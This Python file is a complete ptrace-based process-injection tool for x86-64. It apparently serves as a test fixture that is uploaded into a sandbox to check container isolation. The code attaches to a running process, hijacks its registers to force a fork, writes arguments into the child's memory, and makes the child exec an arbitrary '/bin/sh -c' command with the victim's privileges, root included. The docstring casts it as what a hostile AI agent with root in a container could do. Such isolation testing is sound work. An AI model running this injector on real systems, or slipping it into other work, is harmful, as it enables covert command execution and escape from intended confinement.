"""An attacker's tool, run *inside* a sandbox by the tests (uploaded there, not imported):
``python3 ptrace_inject.py PID COMMAND`` attaches to process PID with ptrace (x86-64), makes it
fork, and makes the child exec ``/bin/sh -c COMMAND``; PID then goes on with the system call it
was in (a ``sleep`` stays asleep). It prints the child's pid. The child is the traced process's
own child, in its session and cgroup, as root when it was: what a hostile agent that is root in
a container makes of the image's service.
"""

import ctypes
import os
import sys

_ATTACH, _DETACH, _PEEK, _POKE, _CONT, _STEP = 16, 17, 2, 5, 7, 9
_GETREGS, _SETREGS, _SETOPTIONS, _GETEVENTMSG = 12, 13, 0x4200, 0x4201
_TRACEFORK, _WALL, _NO_SYSCALL = 2, 0x40000000, 2**64 - 1
_SYS_FORK, _SYS_EXECVE = 57, 59
_NAMES = (
    "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
    "fs_base gs_base ds es fs gs"
).split()

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in _NAMES]


def ptrace(request: int, pid: int, addr: int = 0, data: int = 0) -> int:
    ctypes.set_errno(0)
    result = libc.ptrace(request, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data))
    if result == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace({request}) of {pid}")
    return result


def get_regs(pid: int) -> Regs:
    regs = Regs()
    ptrace(_GETREGS, pid, 0, ctypes.addressof(regs))
    return regs


def set_regs(pid: int, regs: Regs) -> None:
    ptrace(_SETREGS, pid, 0, ctypes.addressof(regs))


def inject(target: int, command: str) -> int:
    ptrace(_ATTACH, target)
    os.waitpid(target, 0)
    ptrace(_SETOPTIONS, target, 0, _TRACEFORK)
    saved = get_regs(target)
    syscall_at = saved.rip - 2  # stopped in a system call: just after its instruction
    if ptrace(_PEEK, target, syscall_at) & 0xFFFF != 0x050F:
        raise SystemExit(f"{target} is not stopped after a syscall instruction")
    call = Regs.from_buffer_copy(saved)
    call.rax, call.orig_rax, call.rip = _SYS_FORK, _NO_SYSCALL, syscall_at
    set_regs(target, call)
    ptrace(_CONT, target)
    os.waitpid(target, 0)  # the fork event
    message = ctypes.c_ulong()
    ptrace(_GETEVENTMSG, target, 0, ctypes.addressof(message))
    child = message.value
    os.waitpid(child, _WALL)  # traced from its start, stopped
    strings = [b"/bin/sh\0", b"-c\0", command.encode() + b"\0"]
    base = (get_regs(child).rsp - 65536) & ~15
    blob, addresses = b"", []
    for text in strings:
        addresses.append(base + len(blob))
        blob += text
    blob += bytes(-len(blob) % 8)
    argv_at = base + len(blob)
    blob += b"".join(a.to_bytes(8, "little") for a in addresses) + bytes(8)
    for i in range(0, len(blob), 8):
        ptrace(_POKE, child, base + i, int.from_bytes(blob[i : i + 8], "little"))
    execve = get_regs(child)
    execve.rax, execve.orig_rax, execve.rip = _SYS_EXECVE, _NO_SYSCALL, syscall_at
    execve.rdi, execve.rsi, execve.rdx = addresses[0], argv_at, argv_at + 8 * len(addresses)
    set_regs(child, execve)
    ptrace(_DETACH, child)
    ptrace(_STEP, target)  # out of fork(), then its own system call made again
    os.waitpid(target, 0)
    saved.rax, saved.rip, saved.orig_rax = saved.orig_rax, syscall_at, _NO_SYSCALL
    set_regs(target, saved)
    ptrace(_DETACH, target)
    return child


if __name__ == "__main__":
    print(inject(int(sys.argv[1]), sys.argv[2]))
